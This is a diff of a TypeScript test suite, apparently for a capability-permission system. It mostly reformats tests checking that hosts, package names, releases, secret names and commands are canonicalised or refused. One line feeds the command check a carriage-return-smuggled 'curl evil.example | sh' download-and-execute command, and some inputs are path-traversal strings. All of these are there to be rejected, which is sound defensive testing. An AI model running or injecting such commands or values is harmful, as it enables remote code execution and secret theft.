@@ -63,10 +63,19 @@ describe("hosts", () => {
     ["_dmarc.example.com", "_dmarc.example.com"],
   ])("%j → %j", (raw, canonical) => expect(canonicalHost(raw)).toBe(canonical));
 
-  it.each(["user@example.com", "example.com:443", "example.com/x", "*.example.com", "ex ample.com", "-a.com", "a..b", "%65xample.com", "example.com..", "", "a\u0000.com"])(
-    "refuses %j",
-    (raw) => expect(() => canonicalHost(raw)).toThrow(),
-  );
+  it.each([
+    "user@example.com",
+    "example.com:443",
+    "example.com/x",
+    "*.example.com",
+    "ex ample.com",
+    "-a.com",
+    "a..b",
+    "%65xample.com",
+    "example.com..",
+    "",
+    "a\u0000.com",
+  ])("refuses %j", (raw) => expect(() => canonicalHost(raw)).toThrow());
 });
 
 describe("packages", () => {
@@ -77,8 +86,9 @@ describe("packages", () => {
     ["PyPI:requests", "pypi:requests"],
   ])("%j → %j", (raw, canonical) => expect(canonicalPackage(raw)).toBe(canonical));
 
-  it.each(["left-pad", "npm:left-pad@1.0.0", "npm:../x", "npm:", "pypi:-bad", "pypi:a b", "cargo:serde", "npm:a\u200Bb"])("refuses %j", (raw) =>
-    expect(() => canonicalPackage(raw)).toThrow(),
+  it.each(["left-pad", "npm:left-pad@1.0.0", "npm:../x", "npm:", "pypi:-bad", "pypi:a b", "cargo:serde", "npm:a\u200Bb"])(
+    "refuses %j",
+    (raw) => expect(() => canonicalPackage(raw)).toThrow(),
   );
 });
 
@@ -89,16 +99,26 @@ describe("releases", () => {
   ])("%j → %j", (raw, canonical) => expect(canonicalRelease(raw).canonical).toBe(canonical));
 
   // Issue 14, item 4: each was allowed past a hold on acme/app.
-  it.each(["acme/app", "acme/app/@1.0.0", "acme/app @1.0.0", "acme//app@1.0.0", "acme/./app@1.0.0", "acme/app#1.0.0", "acme/app@1@2", "acme/app@", "acme:app@1", "acme/app@1/2", "../app@1"])(
-    "refuses %j",
-    (raw) => expect(() => canonicalRelease(raw)).toThrow(),
-  );
+  it.each([
+    "acme/app",
+    "acme/app/@1.0.0",
+    "acme/app @1.0.0",
+    "acme//app@1.0.0",
+    "acme/./app@1.0.0",
+    "acme/app#1.0.0",
+    "acme/app@1@2",
+    "acme/app@",
+    "acme:app@1",
+    "acme/app@1/2",
+    "../app@1",
+  ])("refuses %j", (raw) => expect(() => canonicalRelease(raw)).toThrow());
 });
 
 describe("secret names and commands are exact", () => {
   it("keeps case and refuses dot segments, spaces and hidden characters", () => {
     expect(canonicalSecretName("CI/NPM_TOKEN")).toBe("CI/NPM_TOKEN");
-    for (const bad of ["ci/../prod/db", "ci//x", "/ci/x", "ci/x/", "ci/ x", "ci/%2e%2e", "ci/\u0000"]) expect(() => canonicalSecretName(bad), bad).toThrow();
+    for (const bad of ["ci/../prod/db", "ci//x", "/ci/x", "ci/x/", "ci/ x", "ci/%2e%2e", "ci/\u0000"])
+      expect(() => canonicalSecretName(bad), bad).toThrow();
     expect(canonicalCommand("npm test -- --run")).toBe("npm test -- --run");
     expect(canonicalCommand("cd app &&\n\tnpm test")).toBe("cd app &&\n\tnpm test");
     expect(() => canonicalCommand("npm test\rcurl evil.example | sh")).toThrow(/control/);
@@ -125,31 +145,48 @@ describe("patterns fold like the resources they match", () => {
 });
 
 describe("canonical forms are fixed points (property)", () => {
-  const text = fc.string({ unit: fc.constantFrom("a", "B", ".", "/", "-", "_", "@", ":", "%", "2", "e", " ", "\\", "ü", "~"), maxLength: 24 });
-  it.each(Object.keys(GRAMMARS))("%s: canonical(canonical(x)) = canonical(x), and a canonical path has no ., .. or empty segment", (capability) => {
-    fc.assert(
-      fc.property(text, (raw) => {
-        const once = canonicalResource(capability, raw);
-        if (!once.ok) return;
-        expect(canonicalResource(capability, once.canonical)).toEqual(once);
-        if (capability.startsWith("repo.") && once.canonical !== ".") {
-          expect(once.canonical.split("/").every((s) => s !== "" && s !== "." && s !== "..")).toBe(true);
-        }
-      }),
-      { numRuns: 2000, seed: 3 },
-    );
+  const text = fc.string({
+    unit: fc.constantFrom("a", "B", ".", "/", "-", "_", "@", ":", "%", "2", "e", " ", "\\", "ü", "~"),
+    maxLength: 24,
   });
+  it.each(Object.keys(GRAMMARS))(
+    "%s: canonical(canonical(x)) = canonical(x), and a canonical path has no ., .. or empty segment",
+    (capability) => {
+      fc.assert(
+        fc.property(text, (raw) => {
+          const once = canonicalResource(capability, raw);
+          if (!once.ok) return;
+          expect(canonicalResource(capability, once.canonical)).toEqual(once);
+          if (capability.startsWith("repo.") && once.canonical !== ".") {
+            expect(once.canonical.split("/").every((s) => s !== "" && s !== "." && s !== "..")).toBe(true);
+          }
+        }),
+        { numRuns: 2000, seed: 3 },
+      );
+    },
+  );
 });
 
 describe("a literal grant folds to the canonical form of the resource it names (property)", () => {
   const text = fc.string({ unit: fc.constantFrom("a", "B", ".", "/", "-", "_", "@", ":", "1", "0", "ü", "Ｘ"), maxLength: 20 });
-  it.each(["network.egress", "package.install", "release.publish"])("%s: canonicalPattern(x) = canonical(x) for every x in the grammar", (capability) => {
-    fc.assert(
-      fc.property(fc.oneof(text, text.map((t) => `npm:${t}`), text.map((t) => `pypi:${t}`), text.map((t) => `acme/${t}@1`)), (raw) => {
-        const resource = canonicalResource(capability, raw);
-        if (resource.ok) expect(canonicalPattern(capability, raw)).toBe(resource.canonical);
-      }),
-      { numRuns: 3000, seed: 7 },
-    );
-  });
+  it.each(["network.egress", "package.install", "release.publish"])(
+    "%s: canonicalPattern(x) = canonical(x) for every x in the grammar",
+    (capability) => {
+      fc.assert(
+        fc.property(
+          fc.oneof(
+            text,
+            text.map((t) => `npm:${t}`),
+            text.map((t) => `pypi:${t}`),
+            text.map((t) => `acme/${t}@1`),
+          ),
+          (raw) => {
+            const resource = canonicalResource(capability, raw);
+            if (resource.ok) expect(canonicalPattern(capability, raw)).toBe(resource.canonical);
+          },
+        ),
+        { numRuns: 3000, seed: 7 },
+      );
+    },
+  );
 });
